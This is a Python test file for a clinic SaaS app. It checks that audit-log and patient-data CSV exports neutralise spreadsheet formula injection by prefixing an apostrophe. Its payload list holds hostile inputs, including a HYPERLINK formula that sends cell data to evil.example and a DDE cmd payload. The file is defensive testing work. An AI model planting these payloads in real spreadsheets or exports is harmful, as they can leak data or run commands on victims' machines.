"""CSV exports neutralise formula injection (issue 10 item 10): a patient or an attacker who
controls a value (display name, message, tag, user agent) cannot make Excel run a formula."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from saas.audit.services import record
from saas.extensions import db
from saas.friends import services as friend_services
from saas.friends.models import Friend, Message
from saas.security.csvsafe import FORMULA_STARTS, csv_document, safe_cell
from saas.tenancy.scoping import tenant_scope
from tests.factories import gen_clinic, gen_user
from tests.helpers import login

PAYLOADS = ['=HYPERLINK("https://evil.example/?"&A1,"詳細")', "+cmd|' /C calc'!A0", "-2+3", "@SUM(1+1)", "\t=1", "\r=1"]


def _cells(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def _assert_no_live_formula(text: str, payloads: list[str]) -> None:
    cells = [cell for row in _cells(text) for cell in row]
    live = [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    assert not live, f"cells a spreadsheet would evaluate: {live}"
    for payload in payloads:
        assert "'" + payload in cells, f"{payload!r} missing (or not neutralised) in the export"


@pytest.mark.parametrize("start", FORMULA_STARTS)
def test_every_formula_start_gets_an_apostrophe(start):
    assert safe_cell(f"{start}1") == f"'{start}1"
    assert safe_cell("患者さん=1") == "患者さん=1" and safe_cell(-5) == -5 and safe_cell(None) == ""
    assert _cells(csv_document(["a"], [[f"{start}x"]]))[1] == [f"'{start}x"]


def test_no_code_writes_csv_except_through_the_shared_helper():
    """A new export (friends list, analytics...) must use saas.security.csvsafe.csv_document."""
    root = Path(__file__).resolve().parents[2] / "saas"
    offenders = [
        str(path.relative_to(root))
        for path in root.rglob("*.py")
        if path.name != "csvsafe.py"
        and any(call in path.read_text(encoding="utf-8") for call in ("csv.writer(", "csv.DictWriter("))
    ]
    assert not offenders, f"CSV written without csvsafe.csv_document: {offenders}"


def test_audit_log_export_neutralises_formulas(client):
    clinic = gen_clinic()
    admin = gen_user("admin", clinic=clinic)
    for payload in PAYLOADS:
        record("friends.view", clinic_id=clinic.id, actor_email=payload, target_type=payload, target_id=payload[:60])
    db.session.commit()
    login(client, admin)
    response = client.get(f"/c/{clinic.slug}/audit/export.csv")
    assert response.status_code == 200
    _assert_no_live_formula(response.get_data(as_text=True), PAYLOADS)


def test_patient_data_export_neutralises_formulas(client):
    clinic = gen_clinic()
    login(client, gen_user("owner", clinic=clinic))
    with tenant_scope(clinic.id):
        friend = Friend(line_user_id="U" + "f" * 32, display_name=PAYLOADS[0], attributes={"来院経路": PAYLOADS[1]})
        db.session.add(friend)
        db.session.flush()
        friend_services.add_tag(friend, friend_services.get_or_create_tag(PAYLOADS[3]))
        for text in PAYLOADS[2:]:
            db.session.add(Message(friend_id=friend.id, direction="in", kind="text", text=text))
        db.session.commit()
        friend_id = friend.id
    response = client.get(f"/c/{clinic.slug}/privacy/friends/{friend_id}/export.csv")
    assert response.status_code == 200
    _assert_no_live_formula(response.get_data(as_text=True), PAYLOADS)
